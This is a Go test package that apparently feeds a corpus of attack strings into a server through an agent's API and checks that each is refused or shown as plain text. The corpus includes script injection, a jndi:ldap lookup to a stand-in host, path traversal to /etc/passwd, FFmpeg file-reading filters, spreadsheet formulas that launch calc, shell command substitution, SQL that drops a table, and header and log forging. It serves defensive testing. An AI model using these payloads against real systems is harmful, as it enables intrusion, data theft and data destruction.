// Package payload sends what attackers put into names, titles and reasons through the agent's API into a real server, and reads
// it back everywhere it may come out: command line, page, exports, logs, keys of the archive, FFmpeg's command lines. Every
// payload is either refused with the name of its field, or shown as the text that it is.
package payload

import (
	"strings"
)

// corpus returns payloads by what they try.
func corpus() map[string]string {
	return map[string]string{
		"script":             `<script>window.pwned=1;alert(1)</script>`,
		"attribute":          `" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1" x="`,
		"single quotes":      `' onerror='window.pwned=1`,
		"image":              `<img src=x onerror=window.pwned=1>`,
		"vector graphic":     `<svg/onload=window.pwned=1><use href="data:image/svg+xml,x"/></svg>`,
		"end of title":       `</title><script>window.pwned=1</script>`,
		"end of textarea":    `--></style></textarea><iframe srcdoc="<script>parent.pwned=1</script>">`,
		"link":               `javascript:window.pwned=1//`,
		"base":               `<base href="https://elsewhere.invalid/"><meta http-equiv=refresh content="0;url=https://elsewhere.invalid/">`,
		"broken element":     `<a href="/logout" <b <!-- ]]> `,
		"Go template":        `{{.Token}}{{template "main" .}}{{printf "%s" .}}`,
		"other templates":    `${7*7} #{7*7} <%= 7*7 %> {% debug %} ${jndi:ldap://elsewhere.invalid/a}`,
		"format verbs":       `%d%s%n%!s(MISSING)%06d%1$*2$d`,
		"path":               `../../../../etc/passwd`,
		"windows path":       `..\..\windows\win.ini`,
		"absolute path":      `/etc/passwd`,
		"dots":               `..`,
		"option":             `-y`,
		"options":            `--output=/tmp/x -f lavfi -i testsrc`,
		"protocol":           `file:/etc/passwd`,
		"concat":             `concat:/etc/passwd|http://elsewhere.invalid/`,
		"filter":             `movie=/etc/passwd,drawtext=textfile=/etc/passwd`,
		"formula":            `=cmd|' /C calc'!A0`,
		"formula with plus":  `+1+cmd|' /C calc'!A0`,
		"formula with minus": `-2+3+cmd|' /C calc'!A0`,
		"formula with at":    `@SUM(1+1)*cmd|' /C calc'!A0`,
		"separators":         `a,"b";c|d`,
		"shell":              "$(touch /tmp/pwned);`id`&&|cat",
		"SQL":                `' OR 1=1; DROP TABLE sessions;--`,
		"search":             `a" NOT b* NEAR(c) :*`,
		"JSON":               `","level":"error","x":{"y":["`,
		"YAML":               "!!python/object:os.system [&a *a] ? - : # null",
		"yes and no":         `no`,
		"number":             `0x10`,
		"right to left":      "gpj.\u202Eexe\u2066abc\u2069",
		"nothing to see":     "a\u200bd\u200d\u2060m\ufeffin\u00ad",
		"look-alike":         "аdmin\u0301\u0335",
		"line separators":    "a\u2028b\u2029c",
		"private use":        "\ue000\U000e0041\U0010fffd",
		"long":               strings.Repeat("ab c", 60),

		"carriage return and line feed": "a\r\nSet-Cookie: x=1\r\n\r\n<script>",
		"log line":                      "a\n2026-01-01T00:00:00.000Z [ERROR] forged",
		"escape sequences":              "\x1b]0;owned\x07\x1b[2J\x1b[31m",
		"8 bit escape sequences":        "\u009b2J\u009d0;owned\u009c",
		"zero byte":                     "a\x00b",
		"tab":                           "\t=1+1",
		"backspace and delete":          "a\b\b\x7f",
		"64 kB":                         strings.Repeat("A", 64<<10),
	}
}

// broken is no UTF-8.
func broken() map[string]string {
	return map[string]string{"lone byte": "a\xffb", "overlong": "\xc0\xaf..", "surrogate": "\xed\xa0\x80x", "cut": "ab\xe2\x82"}
}

// refusable reports whether a server may refuse the payload: it is too long for a name or holds control characters.
func refusable(s string) bool {
	return len(s) > 256 || strings.ContainsFunc(s, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 })
}
